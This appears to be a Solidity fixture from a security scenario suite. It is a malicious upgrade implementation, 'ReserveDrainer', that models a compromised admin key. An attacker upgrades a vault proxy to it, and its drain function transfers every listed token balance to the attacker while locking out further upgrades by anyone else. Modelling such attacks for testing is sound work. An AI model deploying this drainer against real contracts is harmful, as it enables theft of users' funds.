// SPDX-License-Identifier: Apache-2.0
pragma solidity ^0.8.24;

import {IERC20} from "@openzeppelin/contracts/token/ERC20/IERC20.sol";
import {UUPSUpgradeable} from "@openzeppelin/contracts/proxy/utils/UUPSUpgradeable.sol";

/// @title ReserveDrainer
/// @notice Scenario 6, compromised admin key: the stolen operations key grants UPGRADER_ROLE to the attacker,
/// who upgrades the ReserveVault proxy to this implementation and calls `drain` in the same transaction
/// (`upgradeToAndCall`). Only the attacker can drain.
contract ReserveDrainer is UUPSUpgradeable {
    address public immutable attacker;

    error NotAttacker();

    constructor(address attacker_) {
        attacker = attacker_;
    }

    function drain(address[] calldata tokens) external {
        if (msg.sender != attacker) revert NotAttacker();
        for (uint256 i = 0; i < tokens.length; i++) {
            IERC20(tokens[i]).transfer(attacker, IERC20(tokens[i]).balanceOf(address(this)));
        }
    }

    function _authorizeUpgrade(address) internal view override {
        if (msg.sender != attacker) revert NotAttacker();
    }
}
